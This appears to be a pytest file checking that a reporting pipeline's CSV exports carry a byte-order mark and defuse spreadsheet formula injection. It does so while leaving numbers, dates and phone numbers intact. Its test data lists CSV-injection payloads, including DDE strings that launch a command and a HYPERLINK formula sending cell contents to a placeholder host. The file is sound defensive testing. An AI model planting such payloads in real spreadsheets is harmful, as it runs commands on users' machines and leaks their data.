"""The CSVs open in Excel with the right characters and never run a cell as a formula.

Contract: every CSV is UTF-8 with a byte-order mark, and a cell starting `=`, `+`, `-`,
`@`, tab or carriage return is written so a spreadsheet shows it as text - unless the
whole cell is a number, a date or a phone number, which must stay as they are.
"""

from __future__ import annotations

import codecs
import csv
import io

import pytest
import xlsxwriter

from planrecon.outputs.safety import neutralise
from planrecon.pipeline import run

PAYLOADS = [
    "-2+3+cmd|' /C calc'!A0",
    '+1+WEBSERVICE("http://x")',
    '=HYPERLINK("http://x?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- 2+3+cmd|' /C calc'!A0",
]
READABLE = ["-5", "+5", "-1,234.50", "+12.5%", "+44 20 7946 0000", "+44 (0)20 7946 0000",
            "+1-202-555-0100", "2024-01-02", "-", "Review the - and + cases", ""]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_is_written_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", READABLE)
def test_numbers_dates_and_phone_numbers_stay_readable(text):
    assert neutralise(text) == text


def _paper(path, rows):
    """An action plan whose cells are written as strings, never as formulas."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("Action Plan")
    for r, row in enumerate([("Ref", "Action", "Lead Officer", "Target Date", "Progress"),
                             *rows]):
        for c, text in enumerate(row):
            sheet.write_string(r, c, text)
    book.close()


def test_pipeline_csvs_have_a_bom_and_no_live_formula(tmp_path):
    inbox, out = tmp_path / "inbox", tmp_path / "out"
    inbox.mkdir()
    payload_rows = [(f"{n}", text, "Head of Housing", "31 March 2024", "On track")
                    for n, text in enumerate(PAYLOADS[:4], start=1)]
    readable_rows = [("5", "Publish the strategy", "Head of Housing", "2024-01-02", "-5"),
                     ("6", "Set up the helpline", "Head of Housing", "30 June 2024",
                      "+44 20 7946 0000")]
    _paper(inbox / "plan.xlsx", payload_rows + readable_rows)
    summary = run(inbox, out)
    assert set(summary.files) >= {"actions.csv", "changes.csv", "indicators.csv",
                                  "quarantine.csv"}
    for name in summary.files:
        if name.endswith(".csv"):
            assert (out / name).read_bytes().startswith(codecs.BOM_UTF8), name
    raw = (out / "actions.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    actions = {row["ref"]: row for row in rows}
    assert [actions[str(n)]["action"] for n in range(1, 5)] == ["'" + p for p in PAYLOADS[:4]]
    assert actions["5"]["progress"] == "-5"
    assert actions["5"]["due_date"] == "2024-01-02"
    assert actions["6"]["progress"] == "+44 20 7946 0000"
